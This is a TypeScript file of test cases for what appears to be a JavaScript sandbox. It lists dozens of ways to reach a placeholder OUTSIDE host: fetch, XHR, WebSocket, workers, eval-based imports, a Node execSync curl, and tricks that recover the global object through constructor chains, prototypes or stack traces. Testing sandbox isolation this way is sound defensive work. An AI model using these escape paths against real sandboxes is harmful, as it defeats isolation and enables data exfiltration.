/** Ways to the network. */
import { type Attempt, tries, works } from './attempt.js';

export const NETWORK: Attempt[] = [
  works('fetch', `await find('fetch').call(globalThis, 'OUTSIDE/fetch', { mode: 'no-cors' });`),
  works(
    'fetch by keepalive',
    `await find('fetch').call(globalThis, 'OUTSIDE/keepalive', { mode: 'no-cors', keepalive: true });`,
  ),
  works(
    'fetch of a Request',
    `const R = find('Request'); await find('fetch').call(globalThis, new R('OUTSIDE/request', { mode: 'no-cors' }));`,
  ),
  works(
    'XMLHttpRequest',
    `const X = find('XMLHttpRequest'); const x = new X(); x.open('GET', 'OUTSIDE/xhr'); x.send(); await new Promise((r) => x.onloadend = r);`,
  ),
  works(
    'XMLHttpRequest, synchronous',
    `const X = find('XMLHttpRequest'); const x = new X(); x.open('GET', 'OUTSIDE/xhr-sync', false); x.send();`,
  ),
  works(
    'WebSocket',
    `const W = find('WebSocket'); const w = new W('OUTSIDE/websocket'.replace('http', 'ws')); await new Promise((r) => w.onerror = w.onopen = r);`,
  ),
  works(
    'EventSource',
    `const E = find('EventSource'); const e = new E('OUTSIDE/eventsource'); await new Promise((r) => e.onerror = e.onopen = r);`,
  ),
  works('importScripts', `find('importScripts').call(globalThis, 'OUTSIDE/importscripts');`),
  works('import()', `await Function('return import("OUTSIDE/import")')();`),
  works('import() by eval', `await (0, eval)('import("OUTSIDE/import-eval")');`),
  tries('import() written out', `await import('OUTSIDE/import-plain');`),
  tries(
    'import with attributes',
    `await Function('return import("OUTSIDE/import-json", { with: { type: "json" } })')();`,
  ),
  tries(
    'a static import',
    `await Function('return import("data:text/javascript,import%20%22OUTSIDE/import-data%22")')();`,
  ),
  works(
    'a nested worker',
    `const W = find('Worker'); new W('data:text/javascript,fetch("OUTSIDE/worker",{mode:"no-cors"})'); await new Promise((r) => setTimeout(r, 200));`,
  ),
  works(
    'a worker from a blob',
    `const [W, B, U] = ['Worker', 'Blob', 'URL'].map(find); const u = U.createObjectURL(new B(['fetch("OUTSIDE/blob-worker",{mode:"no-cors"})'])); new W(u); await new Promise((r) => setTimeout(r, 300));`,
  ),
  tries('a shared worker', `const W = find('SharedWorker'); new W('OUTSIDE/shared-worker');`),
  works('FontFace', `const F = find('FontFace'); await new F('x', 'url(OUTSIDE/font)').load();`),
  tries('FontFaceSet', `find('fonts').load('12px x', 'url(OUTSIDE/fonts)');`),
  works('Cache.add', `const c = await find('caches').open('x'); await c.add('OUTSIDE/cache');`),
  tries('Image', `const I = find('Image'); new I().src = 'OUTSIDE/image';`),
  tries('createImageBitmap', `await find('createImageBitmap').call(globalThis, 'OUTSIDE/bitmap');`),
  tries(
    'an image in an OffscreenCanvas',
    `const C = find('OffscreenCanvas'); new C(1, 1).getContext('2d').fillStyle = 'url(OUTSIDE/canvas)';`,
  ),
  tries('CSS', `const S = find('CSSStyleSheet'); await new S().replace('@import url(OUTSIDE/css)');`),
  tries('sendBeacon', `find('navigator').sendBeacon('OUTSIDE/beacon', 'x');`),
  tries(
    'WebRTC',
    `const P = find('RTCPeerConnection'); const p = new P({ iceServers: [{ urls: 'stun:OUTSIDE' }] }); p.createDataChannel('x'); await p.setLocalDescription();`,
  ),
  tries(
    'WebTransport',
    `const W = find('WebTransport'); await new W('OUTSIDE/webtransport'.replace('http:', 'https:')).ready;`,
  ),
  tries(
    'WebSocketStream',
    `const W = find('WebSocketStream'); await new W('OUTSIDE/stream'.replace('http', 'ws')).opened;`,
  ),
  tries('background fetch and push', `await find('registration').backgroundFetch.fetch('x', 'OUTSIDE/background');`),
  tries(
    'WebAssembly.compileStreaming of a response',
    `const W = find('WebAssembly'); await W.compileStreaming(find('fetch').call(globalThis, 'OUTSIDE/wasm'));`,
  ),
  tries('reporting', `const R = find('ReportingObserver'); new R(() => {}).observe();`),
  tries('a source map of a made function', `Function('throw 1 //# sourceMappingURL=OUTSIDE/map')();`),
  tries('node: modules', `require('node:http').get('OUTSIDE/http');`),
  tries('node: net by process.binding', `process.binding('tcp_wrap');`),
  tries('node: child_process', `require('child_process').execSync('curl OUTSIDE/curl');`),
  tries(
    'fetch through a new function of an async one',
    `await (async () => {}).constructor('return fetch("OUTSIDE/async", { mode: "no-cors" })')();`,
  ),
  tries(
    'fetch through the prototype of the global',
    `await Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch('OUTSIDE/proto');`,
  ),
  tries(
    'fetch through a constructor of a constructor',
    `await console.log.constructor('return this')().fetch('OUTSIDE/ctor');`,
  ),
  tries(
    'fetch where an error shows the caller',
    `Error.prepareStackTrace = (_, sites) => sites.map((s) => [s.getThis(), s.getFunction()]); for (const [that, f] of new Error().stack) { try { (that ?? f.constructor('return this')()).fetch('OUTSIDE/stack'); } catch {} }`,
  ),
];
